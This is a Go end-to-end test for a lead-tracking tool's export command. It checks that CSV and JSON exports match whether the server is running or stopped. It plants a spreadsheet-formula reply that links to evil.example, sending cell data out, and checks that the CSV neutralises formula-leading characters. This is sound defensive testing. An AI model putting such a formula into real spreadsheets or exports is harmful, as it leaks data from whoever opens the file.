package e2e

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/leadbell/leadbell/event"
)

// TestExport runs leadbell export while serve holds the store (the export
// comes through serve's API) and after serve stopped (export opens the
// store itself), and finds the same files both times.
func TestExport(t *testing.T) {
	dir := t.TempDir()
	p, sim := serveWithSim(t, dir)
	gen := sim.Generator()

	// Replies: an ordinary one, one whose text is a spreadsheet formula,
	// and one full of markup; and some opens and a click beside them.
	emit(t, sim, gen.Event(event.Replied))
	formula := gen.Event(event.Replied)
	formula.Body, formula.BodyHTML = `=HYPERLINK("https://evil.example/?d="&A1,"Open")`, ""
	emit(t, sim, formula)
	if code := deliverFile(t, p.status().WebhookURL, "hostile_reply.json"); code != 200 {
		t.Fatalf("delivering the hostile reply: %d, want 200", code)
	}
	for _, typ := range []event.Type{event.Opened, event.Opened, event.Clicked} {
		emit(t, sim, gen.Event(typ))
	}
	var replies, all pageJSON
	p.getJSON("/api/events?type=EMAIL_REPLIED&limit=500", &replies)
	p.getJSON("/api/events?limit=500", &all)
	if len(replies.Events) != 3 || len(all.Events) != 6 {
		t.Fatalf("the store lists %d replies of %d events, want 3 of 6", len(replies.Events), len(all.Events))
	}

	ui := strings.TrimPrefix(p.UI, "http://")
	outDir := t.TempDir()
	type run struct{ csv, json, summary string }
	exportAll := func(when, ui string) run {
		t.Helper()
		csvRun := exec2(t, nil, "export", "--data", dir, "--ui", ui)
		out := filepath.Join(outDir, when+".json")
		jsonRun := exec2(t, nil, "export", "--data", dir, "--ui", ui, "--type", "all", "--format", "json", "--out", out)
		for _, r := range []result{csvRun, jsonRun} {
			if r.code != 0 {
				t.Fatalf("leadbell export %s exited %d: %s", when, r.code, r.stderr)
			}
		}
		b, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		return run{csv: csvRun.stdout, json: string(b), summary: jsonRun.stdout}
	}

	running := exportAll("running", ui)
	if !strings.Contains(running.summary, "through the running Leadbell at "+p.UI) {
		t.Errorf("summary %q: want the export to say it came from the running Leadbell", running.summary)
	}
	checkCSV(t, running.csv, idsOf(replies.Events))
	checkJSON(t, running.json, idsOf(all.Events))
	// Serve still works after handing out the export.
	p.waitState("listening")
	p.stop()

	// Stopped: export opens the store, and needs no UI to ask.
	stopped := exportAll("stopped", "127.0.0.1:1")
	if strings.Contains(stopped.summary, "through") {
		t.Errorf("summary %q: with Leadbell stopped the export should come from the store", stopped.summary)
	}
	if stopped.csv != running.csv {
		t.Errorf("the CSV differs with Leadbell stopped:\n%s\nwhile running:\n%s", stopped.csv, running.csv)
	}
	if stopped.json != running.json {
		t.Errorf("the JSON differs with Leadbell stopped:\n%s\nwhile running:\n%s", stopped.json, running.json)
	}
}

// checkCSV parses a replies export as a spreadsheet would and checks its
// rows are the replies listed by the API, in order, with no formula live.
func checkCSV(t *testing.T, out string, want []string) {
	t.Helper()
	body, ok := strings.CutPrefix(out, "\ufeff")
	if !ok {
		t.Errorf("the CSV does not start with a UTF-8 BOM")
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, out)
	}
	if len(rows) == 0 || rows[0][0] != "id" || !slices.Contains(rows[0], "body") {
		t.Fatalf("CSV header %q", rows[0])
	}
	bodyCol := slices.Index(rows[0], "body")
	var ids []string
	formula := false
	for _, r := range rows[1:] {
		ids = append(ids, r[0])
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell of row %s starts a formula: %q", r[0], cell)
			}
		}
		formula = formula || strings.HasPrefix(r[bodyCol], `'=HYPERLINK(`)
	}
	if !slices.Equal(ids, want) {
		t.Errorf("CSV rows %v, want the replies %v", ids, want)
	}
	if !formula {
		t.Errorf("the formula reply is not in the CSV as neutralised text:\n%s", out)
	}
}

// checkJSON checks a JSON export is one array of the events listed by the
// API, in order, without raw payloads.
func checkJSON(t *testing.T, out string, want []string) {
	t.Helper()
	var evs []eventJSON
	if err := json.Unmarshal([]byte(out), &evs); err != nil {
		t.Fatalf("the JSON export does not parse: %v\n%s", err, out)
	}
	if got := idsOf(evs); !slices.Equal(got, want) {
		t.Errorf("JSON events %v, want %v", got, want)
	}
	if bytes.Contains([]byte(out), []byte(`"raw"`)) {
		t.Errorf("the JSON export holds raw payloads without --raw")
	}
}
